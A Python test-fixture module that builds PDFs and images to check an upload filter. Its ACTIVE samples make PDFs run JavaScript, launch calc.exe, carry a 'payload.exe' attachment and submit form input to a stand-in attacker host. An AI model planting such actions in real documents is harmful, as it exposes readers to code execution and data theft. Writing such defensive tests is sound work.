"""Letters that are one, and files that are none, for the tests of uploading."""

import io
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image
from PIL.ExifTags import Base
from PIL.PngImagePlugin import PngInfo


def a_pdf(
    change: Callable[[Pdf], object] | None = None, *, pages: int = 1, **saving: object
) -> bytes:
    """Return a small PDF, changed as a test wants."""
    pdf = Pdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    if change:
        change(pdf)
    made = io.BytesIO()
    pdf.save(made, **saving)  # type: ignore[arg-type]
    pdf.close()
    return made.getvalue()


def a_png(size: tuple[int, int] = (40, 30), mode: str = "RGB", colour: object = "white") -> bytes:
    """Return a PNG with words that nobody sees."""
    hidden = PngInfo()
    hidden.add_text("Comment", "hidden words")
    made = io.BytesIO()
    Image.new(mode, size, colour).save(made, "PNG", pnginfo=hidden)  # type: ignore[arg-type]
    return made.getvalue()


def a_jpeg(size: tuple[int, int] = (40, 30), orientation: int = 1) -> bytes:
    """Return a JPEG as a telephone takes it, with its maker and a place."""
    exif = Image.Exif()
    exif[Base.Make] = "hidden words"
    exif[Base.Orientation] = orientation
    made = io.BytesIO()
    Image.new("RGB", size, "white").save(made, "JPEG", exif=exif, comment=b"hidden words")
    return made.getvalue()


def with_script(pdf: Pdf) -> None:
    """Let a script run when the PDF is opened."""
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def with_script_by_name(pdf: Pdf) -> None:
    """Keep a script in the tree of names."""
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", script])))


def with_program(pdf: Pdf) -> None:
    """Start a program by a link, deep inside the page."""
    action = Dictionary(S=Name.Launch, F="calc.exe")
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    pdf.pages[0].Annots = Array([link])


def with_program_on_opening(pdf: Pdf) -> None:
    """Start a program when the PDF is opened."""
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.Launch, F="calc.exe"))


def with_attachment(pdf: Pdf) -> None:
    """Carry another file."""
    pdf.attachments["payload.exe"] = b"MZ"


def with_additional_actions(pdf: Pdf) -> None:
    """Do something when the page is shown."""
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))


def with_xfa(pdf: Pdf) -> None:
    """Carry a form of XFA."""
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def with_submission(pdf: Pdf) -> None:
    """Send what is typed to somewhere."""
    action = Dictionary(S=Name.SubmitForm, F="https://attacker.example")
    pdf.Root.AcroForm = Dictionary(Fields=Array([Dictionary(T="x", A=action)]))


ACTIVE = [
    with_script,
    with_script_by_name,
    with_program,
    with_program_on_opening,
    with_attachment,
    with_additional_actions,
    with_xfa,
    with_submission,
]


def with_place_to_show(pdf: Pdf) -> None:
    """Show the first page first, as LibreOffice writes it into every file."""
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.XYZ, None, None, 0])


def with_way_to_show(pdf: Pdf) -> None:
    """Show the first page first, as Word writes it."""
    there = Array([pdf.pages[0].obj, Name.Fit])
    pdf.Root.OpenAction = Dictionary(Type=Name.Action, S=Name.GoTo, D=there)


def with_link(pdf: Pdf) -> None:
    """Link to the institution's own site."""
    action = Dictionary(S=Name.URI, URI="https://justice.example")
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    pdf.pages[0].Annots = Array([link])


HARMLESS = [None, with_place_to_show, with_way_to_show, with_link]

ENCRYPTED = pikepdf.Encryption(owner="secret", user="secret")
PROTECTED = pikepdf.Encryption(owner="secret", user="")
